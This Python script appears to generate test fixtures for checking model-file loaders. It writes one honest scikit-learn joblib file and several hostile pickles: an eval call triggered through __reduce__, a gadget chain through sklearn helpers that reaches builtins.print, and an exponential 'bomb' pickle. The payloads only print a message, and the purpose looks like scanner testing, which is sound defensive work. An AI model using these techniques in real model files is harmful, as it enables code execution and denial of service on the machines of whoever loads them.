from pathlib import Path

import joblib
import numpy as np
from sklearn.datasets import load_iris
from sklearn.linear_model import LogisticRegression


class Attack:
    """Loading it calls eval on the code."""

    def __reduce__(self) -> tuple:
        return eval, ("print('the file ran code')",)


model = LogisticRegression(max_iter=1000).fit(*load_iris(return_X_y=True))
joblib.dump(model, "honest/model.joblib")
joblib.dump([np.arange(3.0), Attack()], "hostile/after_array.joblib")
joblib.dump(Attack(), "hostile/compressed.joblib", compress=3)
Path("hostile/sklearn_names.pkl").write_bytes(
    b"csklearn.feature_selection._base\nattrgetter\n(Vprint\ntR"
    b"(csklearn.utils.discovery\nimport_module\n(Vbuiltins\ntRtR"
    b"(Vthe file ran code\ntR."  # attrgetter("print")(builtins)(text)
)
pair = b")" + b"q\x00h\x00\x86" * 40  # x = (); then 40 times x = (x, x)
Path("hostile/bomb.pkl").write_bytes(
    b"\x80\x02}(" + (pair + b"K\x00") * 2 + b"u."  # {x: 0, x: 0}
)
